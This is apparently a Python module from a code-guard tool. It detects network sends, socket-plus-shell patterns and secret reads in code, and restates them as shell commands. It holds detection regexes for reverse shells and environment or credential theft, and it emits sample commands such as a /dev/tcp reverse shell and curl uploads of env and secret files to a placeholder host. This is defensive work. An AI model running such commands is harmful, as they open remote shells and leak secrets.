"""What code sends over the network, and the shells it opens to it, as shell commands of the same meaning."""

from __future__ import annotations

from collections.abc import Iterator, Sequence

from tacit.guard.code.actions import path_of
from tacit.guard.secrets.sources import is_secret
from tacit.shell.command import literal
from tacit.text.patterns import lazy_pattern

_SENDS = lazy_pattern(
    r"\b(?:requests|httpx|aiohttp|session)\.(?:post|put|get|request)\b|\burlopen\b|\bfetch\(|\baxios\b|\bhttps?[\"']?\)?\.(?:request|get)\("
    r"|http\.client|Net::HTTP|LWP::|HTTP::Tiny|IO::Socket|socket\.socket|create_connection|net\.(?:connect|"
    r"createConnection)"
    r"|TCPSocket|fsockopen|stream_socket_client|curl_exec|file_get_contents\(\s*[\"']http|smtplib|sendmail|ftplib|"
    r"HttpClient"
    r"|\bresolve4?\(|gethostbyname|getaddrinfo|dns\.(?:lookup|resolve)"
)
_SOCKET = lazy_pattern(
    r"socket\.socket|create_connection|IO::Socket|TCPSocket|fsockopen|net\.(?:connect|createConnection|Socket)|"
    r"socket\.tcp"
)
_SHELL = lazy_pattern(r"(?:/bin/|[\"'])(?:ba|z|da|k)?sh\b|dup2|pty\.spawn|cmd\.exe|powershell")
_RUNS = lazy_pattern(r"\b(?:exec\w*|spawn\w*|system|popen|Popen|call|run|dup2|shell_exec|proc_open)\b")
_ENVIRONMENT = lazy_pattern(
    r"(?:dumps|str|dict|repr|stringify|to_json|json_encode|Object\.entries)\(\s*(?:dict\(\s*)?"
    r"(?:os\.environ|process\.env|ENV\b|\$_ENV|getenv\(\))|os\.environ\.(?:copy|items)\(\)|data\s*=\s*os\.environ\b"
)
# Names of the environment that hold a secret.
_SECRET_VARIABLE = lazy_pattern(
    r"(?:environ(?:\.get\(|\[)|getenv\(|process\.env\.|ENV\[|\$ENV\{)\s*[\"']?(\w*(?:KEY|TOKEN|SECRET|PASSW)\w*)"
)


MOST_NAMED = 10


def network_actions(code: str, texts: Sequence[str]) -> Iterator[str]:
    """Return the requests of code that names or reads secrets, and a shell for a connection it opens."""
    if _SOCKET.search(code) and _SHELL.search(code) and _RUNS.search(code):
        yield "bash -i >& /dev/tcp/host/1"
    if not _SENDS.search(code):
        return
    address = next(
        (text for text in texts if text.startswith(("http://", "https://", "ftp://"))), "https://host.invalid"
    )
    for text in texts:
        if is_secret(literal(text)) and not text.startswith(("http://", "https://")):
            yield f"curl -T {path_of(text)} {path_of(address)}"
    if _ENVIRONMENT.search(code):
        yield f"env | curl -d @- {path_of(address)}"
    # As in a header: a token is told to the host that it is for.
    named = dict.fromkeys(_SECRET_VARIABLE.findall(code))
    yield from (f'curl -H "x: ${name}" {path_of(address)}' for name in list(named)[:MOST_NAMED])
